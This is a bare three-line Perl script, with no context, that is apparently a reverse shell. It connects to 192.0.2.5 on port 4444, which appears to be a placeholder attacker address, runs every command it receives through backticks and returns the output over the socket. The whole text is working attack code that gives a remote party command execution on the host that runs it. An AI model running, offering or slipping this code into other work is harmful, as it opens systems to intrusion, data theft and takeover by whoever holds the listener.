use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "192.0.2.5:4444");
while (my $cmd = <$s>) { print $s `$cmd`; }
